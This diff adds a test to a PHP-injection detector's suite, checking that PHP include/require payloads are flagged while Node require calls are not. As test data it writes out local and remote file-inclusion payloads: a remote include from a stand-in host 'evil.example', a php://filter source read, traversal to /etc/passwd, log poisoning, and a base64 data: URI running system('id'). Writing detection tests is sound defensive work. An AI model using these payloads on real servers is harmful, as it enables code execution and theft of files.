@@ -25,6 +25,26 @@ describe('php detector', () => {
       assert.ok(rules(name, 'body.file@filename').includes('php.script-upload'), name);
   });
 
+  test("include and require count with what PHP would include, not with Node's module names", () => {
+    for (const value of [
+      "include('http://evil.example/shell.txt')",
+      'require_once($_GET["page"])',
+      "include('php://filter/convert.base64-encode/resource=index.php')",
+      "require('../../etc/passwd')",
+      "include('/var/log/apache2/access.log')",
+      "include('data:text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+')",
+      "include('config.inc')",
+    ])
+      assert.ok(rules(value).includes('php.function-call'), value);
+    for (const value of [
+      "const fastify = require('fastify')({ logger: true })",
+      "const { EventEmitter } = require('node:events')",
+      "console.log(require('./package.json').version)",
+      "const { trace } = require('@opentelemetry/api')",
+    ])
+      assert.deepEqual(rules(value), [], value);
+  });
+
   test('leaves look-alikes alone', () => {
     for (const value of [
       'The system (and its parts) works',
